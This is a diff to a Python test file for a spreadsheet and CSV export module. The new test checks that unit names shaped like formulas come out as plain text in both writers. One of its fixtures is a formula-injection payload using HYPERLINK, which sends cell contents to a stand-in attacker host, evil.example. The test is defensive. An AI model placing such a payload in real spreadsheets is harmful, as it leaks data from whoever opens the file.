@@ -26,6 +26,7 @@ from grassroots.export import (
     IndicatorColumn,
     LevelTable,
     _Notes,
+    _write_csv,
     _write_xlsx,
     export,
     neutralise,
@@ -182,6 +183,43 @@ def test_a_village_named_like_a_formula_is_quoted_in_csv(
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
 def test_every_formula_trigger_is_neutralised_in_csv(text: str) -> None:
     assert neutralise(text) == "'" + text
+
+
+HOSTILE = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+    "error-code": "#N/A",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_unit_name_like_a_formula_is_text_in_both_writers(tmp_path: Path, text: str) -> None:
+    """The unit's and its parent's names, in xlsx (string cells of that very text, quote
+    prefixed when they start with a trigger) and CSV (an apostrophe before a trigger); the
+    numbers beside them, a negative one too, stay numbers."""
+    trigger = text.startswith(("=", "+", "-", "@", "\t", "\r"))
+    table = LevelTable("village", [_indicator("x0", "count"), _indicator("x1", "%")])
+    table.rows.append(("150621108200", text, "150621108000", text, [-3.0, 12.5]))
+
+    path = _write_xlsx([table], _Notes([("k", text)], table.indicators), tmp_path / "w.xlsx")
+    book = openpyxl.load_workbook(path)
+    row = list(book[SHEET_NAMES["village"]].iter_rows(min_row=3))[0]
+    for cell in (row[1], row[3], book[NOTES_SHEET]["B2"]):
+        assert (cell.value, cell.data_type) == (text, "s"), cell.coordinate
+        assert cell.quotePrefix is trigger
+    assert [(c.value, c.data_type) for c in row[4:6]] == [(-3, "n"), (12.5, "n")]
+    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(SHEET_NAMES["village"])
+    assert calamine.to_python()[2][1] == text and calamine.to_python()[2][3] == text
+
+    csv_path = _write_csv(table, tmp_path / "w.csv")
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        fields = list(csv.reader(handle))[2]
+    shown = "'" + text if trigger else text
+    assert fields[:6] == ["150621108200", shown, "150621108000", shown, "-3", "12.5"]
 
 
 def test_text_that_cannot_start_a_formula_is_left_alone_in_csv() -> None:
